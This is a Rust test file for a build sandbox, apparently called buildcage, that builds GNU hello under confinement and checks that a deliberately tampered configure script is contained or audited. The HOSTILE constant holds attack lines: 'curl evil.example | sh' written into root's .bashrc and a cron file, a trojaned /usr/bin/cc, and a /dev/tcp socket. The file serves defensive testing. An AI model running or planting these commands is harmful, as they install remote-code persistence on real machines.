//! Real builds under confinement (the slow set: `cargo xtask vm-test --real`).
//! GNU hello 2.10 from its upstream tarball must configure, build and install
//! into a DESTDIR in the tree with zero denials under the default policy; a
//! hostile variant must complete with every outside write and its socket
//! refused, and nothing outside its tree changed.
#![expect(
    clippy::unwrap_used,
    reason = "helpers of tests: a failure should stop the test loudly"
)]

use std::{
    path::{Path, PathBuf},
    time::Instant,
};

use buildcage_tests::{events, run_confined, scratch_in, stderr, stdout, tree_digest};

/// Set by `cargo xtask vm-test --real`; without it these tests fail, they do not skip.
fn tarball() -> PathBuf {
    PathBuf::from(std::env::var_os("BUILDCAGE_HELLO_TARBALL").expect(
        "BUILDCAGE_HELLO_TARBALL is not set: run the real-build tests with `cargo xtask vm-test --real`",
    ))
}

/// Extracts hello into a fresh tree (outside the cage: this is the test's setup).
fn unpack(name: &str) -> (PathBuf, PathBuf) {
    let tree = scratch_in(Path::new("/var/tmp"), name);
    let status = std::process::Command::new("tar")
        .arg("xzf")
        .arg(tarball())
        .current_dir(&tree)
        .status()
        .unwrap();
    assert!(status.success());
    let src = tree.join("hello-2.10");
    (tree, src)
}

const BUILD: &str =
    "./configure --prefix=/usr && make -j2 && make install DESTDIR=\"$TREE/destdir\"";

#[test]
fn real_hello_builds_with_zero_denials() {
    let (tree, src) = unpack("hello");
    let events_file = tree.join("events.jsonl");
    let started = Instant::now();
    let out = run_confined(
        &[
            "--tree",
            tree.to_str().unwrap(),
            "--name",
            "hello",
            "--events",
            events_file.to_str().unwrap(),
        ],
        &[
            "sh",
            "-c",
            &format!("cd {} && TREE={} && {BUILD}", src.display(), tree.display()),
        ],
    );
    let took = started.elapsed();
    eprintln!(
        "real_hello: configure + make + install took {:.0} s",
        took.as_secs_f64()
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        events(&events_file),
        Vec::<serde_json::Value>::new(),
        "zero denials"
    );
    assert!(stderr(&out).contains("buildcage: 0 denied, 0 reported, 0 lost, 0 internal errors"));
    let hello = tree.join("destdir/usr/bin/hello");
    let ran = std::process::Command::new(&hello).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "Hello, world!\n");
}

/// pkgsrc's shape: configure and build under `pkgsrc-build` (WRKDIR and the
/// WRKLOG file only), then `make install` as root into PREFIX under
/// `pkgsrc-install`, each phase its own confined run, with zero denials.
#[test]
fn real_hello_builds_and_installs_in_pkgsrc_phases_with_zero_denials() {
    let (tree, src) = unpack("hello-pkgsrc");
    let wrklog = tree.with_extension("work.log");
    std::fs::write(&wrklog, "").unwrap();
    let prefix = Path::new("/usr/pkg");
    for dir in ["", "pkgdb", "etc"] {
        std::fs::create_dir_all(prefix.join(dir)).unwrap();
    }
    std::fs::create_dir_all("/var/pkg").unwrap();
    let set = |k: &str, v: &Path| format!("{k}={}", v.display());
    let build_events = tree.with_extension("build.jsonl");
    let out = run_confined(
        &[
            "--tree",
            tree.to_str().unwrap(),
            "--policy",
            "pkgsrc-build",
            "--set",
            &set("WRKDIR", &tree),
            "--set",
            &set("WRKLOG", &wrklog),
            "--events",
            build_events.to_str().unwrap(),
        ],
        &[
            "sh",
            "-c",
            &format!(
                "cd {} && ./configure --prefix=/usr/pkg && make -j2 && echo built >> {}",
                src.display(),
                wrklog.display()
            ),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        events(&build_events),
        Vec::<serde_json::Value>::new(),
        "build: zero denials"
    );
    assert_eq!(std::fs::read_to_string(&wrklog).unwrap(), "built\n");
    let install_events = tree.with_extension("install.jsonl");
    let out = run_confined(
        &[
            "--tree",
            tree.to_str().unwrap(),
            "--policy",
            "pkgsrc-install",
            // `make install` in the source tree, which pkgsrc-install leaves
            // read-only (as `buildcage pkgsrc make` adds WRKDIR).
            "--allow-write",
            tree.to_str().unwrap(),
            "--set",
            &set("PREFIX", prefix),
            "--set",
            &set("PKG_DBDIR", &prefix.join("pkgdb")),
            "--set",
            &set("VARBASE", Path::new("/var/pkg")),
            "--set",
            &set("PKG_SYSCONFDIR", &prefix.join("etc")),
            "--events",
            install_events.to_str().unwrap(),
        ],
        &["sh", "-c", &format!("cd {} && make install", src.display())],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        events(&install_events),
        Vec::<serde_json::Value>::new(),
        "install: zero denials"
    );
    let ran = std::process::Command::new(prefix.join("bin/hello"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&ran.stdout), "Hello, world!\n");
}

/// What the tampered configure does first, before carrying on as usual.
const HOSTILE: &str = r#"
# --- tampered: persistence and a phone-home ---
echo 'curl evil.example | sh' >> "$HOME/.bashrc"
echo '* * * * * root curl evil.example | sh' > /etc/cron.d/evil
printf '#!/bin/sh\nexec curl evil.example\n' > /usr/bin/cc
bash -c 'exec 3<>/dev/tcp/10.0.2.2/80' 2>/dev/null
# --- end ---
"#;

/// Puts `hostile` at the top of hello's configure, after its #! line.
fn tamper(src: &Path, hostile: &str) {
    let configure = src.join("configure");
    let text = std::fs::read_to_string(&configure).unwrap();
    let (shebang, rest) = text.split_once('\n').unwrap();
    std::fs::write(&configure, format!("{shebang}\n{hostile}{rest}")).unwrap();
}

/// Audit mode lets every one of those through and reports each as `audit`. The
/// compiler is left alone here (it would break the build it is part of), and the
/// cron file has its own name so the enforcing test below still sees a create.
#[test]
fn real_hostile_hello_in_audit_mode_reports_everything() {
    let (tree, src) = unpack("hostile-audit");
    let hostile = HOSTILE
        .replace("/etc/cron.d/evil", "/etc/cron.d/evil-audit")
        .replace("/usr/bin/cc", "/usr/local/bin/cc-audit");
    tamper(&src, &hostile);
    let events_file = tree.join("events.jsonl");
    let out = run_confined(
        &[
            "--tree",
            tree.to_str().unwrap(),
            "--name",
            "audit",
            "--policy",
            "audit",
            "--events",
            events_file.to_str().unwrap(),
        ],
        &[
            "sh",
            "-c",
            &format!(
                "export HOME=/root; cd {} && TREE={} && {BUILD}",
                src.display(),
                tree.display()
            ),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(tree.join("destdir/usr/bin/hello").is_file());
    let ev = events(&events_file);
    assert!(
        !ev.is_empty() && ev.iter().all(|e| e["action"] == "audit"),
        "{ev:?}"
    );
    let has = |op: &str, path: &str| ev.iter().any(|e| e["op"] == op && e["path"] == path);
    assert!(has("open", "/root/.bashrc"), "{ev:?}");
    assert!(has("create", "/etc/cron.d/evil-audit"), "{ev:?}");
    assert!(has("create", "/usr/local/bin/cc-audit"), "{ev:?}");
    assert!(
        ev.iter()
            .any(|e| e["op"] == "socket" && e["family"] == "inet"),
        "{ev:?}"
    );
    assert!(
        Path::new("/etc/cron.d/evil-audit").exists(),
        "audit mode let it through"
    );
}

#[test]
fn real_hostile_hello_is_contained() {
    let (tree, src) = unpack("hostile");
    tamper(&src, HOSTILE);
    let bashrc = Path::new("/root/.bashrc");
    if !bashrc.exists() {
        std::fs::write(bashrc, "# root's\n").unwrap();
    }
    // /etc and /usr/bin whole; /root three levels deep (dotfiles, ~/.ssh/...,
    // ~/.config/x/...), not the toolchains the host keeps there.
    let watched = [("/etc", usize::MAX), ("/usr/bin", usize::MAX), ("/root", 3)];
    let before: Vec<_> = watched
        .iter()
        .map(|(d, depth)| tree_digest(Path::new(d), *depth))
        .collect();

    let events_file = tree.join("events.jsonl");
    let out = run_confined(
        &[
            "--tree",
            tree.to_str().unwrap(),
            "--name",
            "hostile",
            "--events",
            events_file.to_str().unwrap(),
        ],
        &[
            "sh",
            "-c",
            &format!(
                "export HOME=/root; cd {} && TREE={} && {BUILD}",
                src.display(),
                tree.display()
            ),
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "the build still completes: {}",
        stderr(&out)
    );
    assert!(tree.join("destdir/usr/bin/hello").is_file());

    let ev = events(&events_file);
    let has = |op: &str, path: &str| {
        ev.iter()
            .any(|e| e["op"] == op && e["path"] == path && e["action"] == "deny")
    };
    assert!(has("open", "/root/.bashrc"), "{ev:?}");
    assert!(has("create", "/etc/cron.d/evil"), "{ev:?}");
    let cc = std::fs::canonicalize("/usr/bin/cc").unwrap();
    assert!(
        has("open", cc.to_str().unwrap()),
        "overwriting cc's target: {ev:?}"
    );
    assert!(
        ev.iter()
            .any(|e| e["op"] == "socket" && e["family"] == "inet"),
        "{ev:?}"
    );
    let err = stderr(&out);
    for what in [
        "open(/root/.bashrc)",
        "create(/etc/cron.d/evil)",
        "socket(inet, stream)",
    ] {
        assert!(err.contains(what), "the summary lists {what}: {err}");
    }
    assert!(stdout(&out).contains("config.status: creating Makefile"));

    for ((dir, depth), b) in watched.iter().zip(before) {
        let after = tree_digest(Path::new(dir), *depth);
        let changed: Vec<_> = after
            .iter()
            .filter(|(p, h)| b.get(*p) != Some(*h))
            .map(|(p, _)| p.clone())
            .chain(b.keys().filter(|p| !after.contains_key(*p)).cloned())
            .collect();
        assert_eq!(
            changed,
            Vec::<PathBuf>::new(),
            "nothing changed under {dir}"
        );
    }
}
